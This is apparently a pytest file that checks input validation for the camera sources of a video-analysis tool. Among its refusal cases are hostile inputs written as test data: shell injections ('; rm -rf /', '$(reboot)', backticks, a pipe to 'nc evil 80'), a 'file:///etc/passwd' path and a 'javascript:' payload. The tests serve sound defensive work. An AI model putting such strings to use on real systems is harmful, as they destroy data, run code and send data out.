"""Camera source validation: what is accepted, what is refused and why."""

from __future__ import annotations

from pathlib import Path

import cv2
import numpy as np
import pytest

from affectwatch.exceptions import SourceError
from affectwatch.sources import Source, SourceKind, redact, validate_source


@pytest.mark.parametrize(("text", "kind"), [
    ("rtsp://10.0.0.5:554/stream1", SourceKind.URL),
    ("rtsp://admin:s3cret@cam.local/Streaming/Channels/101", SourceKind.URL),
    ("http://192.168.1.20/video.cgi?resolution=640x480&fps=5", SourceKind.URL),
    ("https://cam.example.org/mjpeg", SourceKind.URL),
    ("/dev/video0", SourceKind.DEVICE),
    ("/dev/video12", SourceKind.DEVICE),
    ("0", SourceKind.DEVICE),
    (" 2 ", SourceKind.DEVICE),
])
def test_streams_and_devices_are_accepted(text: str, kind: SourceKind) -> None:
    assert validate_source(text).kind is kind


@pytest.mark.parametrize(("text", "why"), [
    ("file:///etc/passwd", "scheme file://"),
    ("ftp://cam.local/video.mp4", "scheme ftp://"),
    ("javascript:alert(1)", "scheme javascript://"),
    ("rtsp://", "no host"),
    ("http:///video", "no host"),
    ("http://cam:99999/x", "malformed"),
    ("rtsp://cam.local/s; rm -rf /", "metacharacters"),
    ("/tmp/$(reboot).mp4", "metacharacters"),
    ("`id`", "metacharacters"),
    ("cam.mp4 | nc evil 80", "metacharacters"),
    ("rtsp://cam/a\nb", "control characters"),
    ("", "empty"),
    ("   ", "empty"),
    ("/dev/video99", "out of range"),
    ("/no/such/file.mp4", "does not exist"),
    ("/etc/passwd", "not a video file"),
    ("/dev/null", "neither a regular file nor a folder"),
    ("x" * 2001, "longer than 2000"),
    ("/tmp/" + "0" * 300, "cannot be read as a path: File name too long"),  # found by the fuzzer in CI
])
def test_bad_sources_are_refused_with_the_reason(text: str, why: str) -> None:
    with pytest.raises(SourceError, match=why.replace("(", r"\(").replace("$", r"\$").replace("|", r"\|")):
        validate_source(text)


def test_an_existing_video_file_is_accepted_as_an_absolute_path(face_video: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(face_video.parent)
    source = validate_source(face_video.name)
    assert source == Source(SourceKind.FILE, str(face_video))
    assert source.is_finite and source.capture_target() == str(face_video)


def test_a_video_file_opencv_cannot_read_is_refused(tmp_path: Path) -> None:
    fake = tmp_path / "broken.mp4"
    fake.write_bytes(b"\x00\x00\x00\x18ftypmp42" + b"garbage" * 100)
    with pytest.raises(SourceError, match="OpenCV cannot read a frame"):
        validate_source(str(fake))
    assert validate_source(str(fake), check_readable=False).kind is SourceKind.FILE


def test_a_folder_needs_images(tmp_path: Path, astronaut: np.ndarray) -> None:
    with pytest.raises(SourceError, match="holds no images"):
        validate_source(str(tmp_path))
    (tmp_path / "notes.txt").write_text("not an image")
    with pytest.raises(SourceError, match="holds no images"):
        validate_source(str(tmp_path))
    cv2.imwrite(str(tmp_path / "0001.png"), astronaut)
    assert validate_source(str(tmp_path)) == Source(SourceKind.FOLDER, str(tmp_path))


def test_device_targets_are_indexes() -> None:
    assert validate_source("/dev/video3").capture_target() == 3
    assert validate_source("1").capture_target() == 1
    assert not validate_source("1").is_finite


def test_redact_hides_only_the_password() -> None:
    assert redact("rtsp://admin:s3cret@10.0.0.5:554/live") == "rtsp://admin:***@10.0.0.5:554/live"
    assert redact("http://cam.local/video?x=1") == "http://cam.local/video?x=1"
    assert redact("/videos/a.mp4") == "/videos/a.mp4"


def test_a_tilde_that_cannot_be_expanded_is_refused_clearly(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("HOME", raising=False)
    with pytest.raises(SourceError, match="cannot expand"):
        validate_source("~nosuchuser-affectwatch/video.mp4")
